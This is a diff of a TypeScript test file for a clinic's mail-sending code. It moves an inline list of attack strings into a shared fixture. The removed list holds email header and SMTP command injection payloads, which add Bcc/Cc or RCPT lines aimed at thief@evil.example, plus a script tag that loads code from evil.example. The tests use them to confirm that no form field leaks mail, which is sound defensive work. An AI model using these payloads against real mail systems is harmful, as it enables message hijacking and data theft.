@@ -5,6 +5,7 @@ import { leaseMs } from '../../delivery/attempt.ts'
 import { envelope } from '../../delivery/delivery.fixture.ts'
 import { fieldNames } from '../../fields.ts'
 import { asha, claimedMail } from '../../requests.fixture.ts'
+import { attacks } from '../attacks.fixture.ts'
 import { composeMail } from '../mail.ts'
 import { startMailServer, startScriptedServer } from './mail-servers.fixture.ts'
 import { smtpTransport, usualTimeouts } from './smtp.ts'
@@ -114,17 +115,6 @@ test.each<[string, SMTPServerOptions]>([
 test('the destination is shown without the password', () => {
   expect(smtpTransport('smtp://desk:secret@smtp.example.com:587', true).goesTo).toBe('smtp.example.com:587')
 })
-
-const attacks = [
-  'x\r\nBcc: thief@evil.example',
-  'x\nCc: thief@evil.example\n\nbody',
-  'x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<thief@evil.example>\r\nDATA\r\n',
-  'thief@evil.example, "x" <thief2@evil.example>',
-  'a@b.in>\r\nTo: <thief@evil.example',
-  '=?utf-8?Q?x=0D=0ABcc:_thief@evil.example?=',
-  '<script src="https://evil.example/x.js"></script><img src=https://evil.example>',
-  '\u2028Bcc: thief@evil.example\u0000\u0085',
-]
 
 // The form's rules refuse most of this already; here it gets past them.
 test.each(fieldNames)('nothing in the field %s reaches anybody but the clinic', async (name) => {
